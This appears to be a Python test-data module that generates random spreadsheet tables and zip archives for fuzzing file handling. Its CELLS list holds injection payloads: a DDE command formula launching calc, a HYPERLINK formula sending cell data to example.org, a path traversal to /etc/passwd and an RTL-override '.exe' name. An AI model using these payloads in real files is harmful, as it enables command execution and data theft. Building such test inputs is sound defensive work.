"""What every maker of files uses."""

import random
import zipfile
from collections.abc import Mapping
from io import BytesIO
from typing import Final, NamedTuple


class Made(NamedTuple):
    """A file's bytes and the ending that it pretends to have."""

    content: bytes
    ending: str


#: Spreadsheet programs run some of these, break on others, or show something else than what is there.
CELLS: Final = (
    "Ayşe", "+905321234567", "0532 123 45 67", "905321234567", "+5511961234567", "Phone", "Name", "İzmir",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "＝1+1", '=HYPERLINK("http://example.org?"&A1,"x")', "=WEBSERVICE(A1)", "=IMPORTXML(A1)", "'=1",
    "-", "+", "=",
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeff", "\x00", "a\x00b", "\x0b", "\x1b[31m", "\ufffe",
    "_x000D_", "x" * 3000, "🙂" * 200, "ﷺ" * 50, "é" * 40, "1e308", "1E+400", "-0", "NaN", "9" * 400,
    "2026-12-03",
    "<script>", "&amp;", "{name}", "%s%s%n", "../../etc/passwd", "\\\\host\\share", "", " ", "null", "TRUE",
)  # fmt: skip


def a_cell(chance: random.Random) -> str:
    if chance.random() < 0.3:
        return f"+90532{chance.randrange(10**7):07}"
    return chance.choice(CELLS)


def a_table(chance: random.Random, *, rows: int = 40, columns: int = 8) -> list[list[str]]:
    width = chance.randint(1, columns)
    table = [[a_cell(chance) for _ in range(width)] for _ in range(chance.randint(0, rows))]
    if chance.random() < 0.7:
        table.insert(0, ["Phone", *(chance.choice(CELLS) for _ in range(width - 1))])
        for row in table[1:]:
            row[0] = f"+90532{chance.randrange(10**7):07}"
    return table


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Members may be called anything; large ones are packed lightly."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def members_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
